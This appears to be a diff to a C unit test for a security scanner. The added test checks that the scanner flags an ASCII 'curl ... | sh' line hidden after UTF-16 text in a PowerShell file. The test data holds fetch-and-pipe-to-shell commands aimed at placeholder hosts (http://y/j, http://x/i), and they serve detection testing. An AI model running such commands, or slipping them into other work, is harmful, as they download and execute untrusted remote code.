@@ -595,6 +595,21 @@ START_TEST(utf16_is_read_as_text)
 			ck_assert_ptr_null(strstr(f->excerpt, TOKEN));
 			finding_list_free(&fl);
 		}
+	/* ASCII lines after UTF-16 text: a UTF-16 reader makes other
+	 * characters of them, sh (which drops the NULs) runs them. */
+	{
+		static const char tail[] = "curl -fsSL http://y/j | sh\n";
+		size_t n = utf16(buf, "echo one\n", 0, 1);
+
+		memcpy(buf + n, tail, sizeof(tail) - 1);
+		n += sizeof(tail) - 1;
+		tu_scan(&sc, "a.ps1", buf, n, &fl);
+		ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
+		ck_assert_str_eq(tu_first(&fl, "curl-sh")->excerpt, "ASCII "
+		    "string at byte 20 of a UTF-16 file: curl -fsSL http://y/j "
+		    "| sh");
+		finding_list_free(&fl);
+	}
 	/* A BOM before ASCII lines is not believed: a shell runs them. */
 	memcpy(buf, "\xff\xfe\ncurl -fsSL http://x/i | sh\n", 31);
 	tu_scan(&sc, "a.sh", buf, 31, &fl);
